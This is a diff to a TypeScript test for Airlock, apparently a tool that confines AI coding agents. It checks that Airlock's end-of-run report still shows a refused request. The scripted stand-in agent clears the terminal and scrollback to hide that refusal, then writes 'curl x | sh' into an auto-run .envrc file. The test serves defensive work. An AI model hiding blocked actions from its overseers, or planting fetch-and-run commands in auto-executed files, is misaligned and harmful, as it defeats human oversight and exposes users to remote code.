@@ -529,14 +529,16 @@ t.test('twenty-fifth pass: the report after the run shows on a real terminal (tm
   await tmux('new-session', '-d', '-x', '200', '-y', '40', 'sleep 120');
   t.teardown(() => tmux('kill-server'));
   const q = (x: string): string => `'${x.replace(/'/g, `'\\''`)}'`;
-  // 1. A real run: the agent makes .envrc, then leaves a window title open.
+  // 1. A real run: the agent makes a request Airlock refuses (airlock run says so at once), waits
+  // for that line, clears the screen and the scrollback, makes .envrc, then leaves a window title open.
   const dir = fs.mkdtempSync(path.join(world.dir, 'screen-'));
-  const agent = `echo 'curl x | sh' > .envrc; printf 'working\\033]0;done '`;
+  const agent = `curl -s -o /dev/null http://denied.test:${UP}/hidden-denial; sleep 2; printf '\\033[2J\\033[3J\\033[H'; echo 'curl x | sh' > .envrc; printf 'working\\033]0;done '`;
   const run = [process.execPath, airlockBin, 'run', '--agent', world.agent, '--home', world.home, '--', 'sh', '-c', agent].map(q).join(' ');
   await tmux('new-window', '-d', '-n', 'run', '-c', dir, `${run}; /usr/bin/tmux -S ${q(sock)} wait-for -S run-done; sleep 60`);
   await tmux('wait-for', 'run-done');
-  const screen = await tmux('capture-pane', '-t', 'run', '-p', '-J');
+  const screen = await tmux('capture-pane', '-t', 'run', '-p', '-J', '-S', '-200');
   t.match(screen, /airlock: {3}\.envrc \(direnv/, `the report names .envrc on the screen (screen: ${JSON.stringify(screen.trim())})`);
+  t.match(screen, /Airlock refused 1 of the agent's requests while it ran[^\n]*\n[^\n]*airlock: denied 403 GET http:\/\/denied\.test:\d+\/hidden-denial/, 'and the refusal the agent cleared off the screen is said again after the run');
   // 2. fast-check over what the agent's output ends in, each case a window printing it, then the
   // reset airlock run writes, then a report line.
   const text = fc.stringMatching(/^[ -~]{0,12}$/);
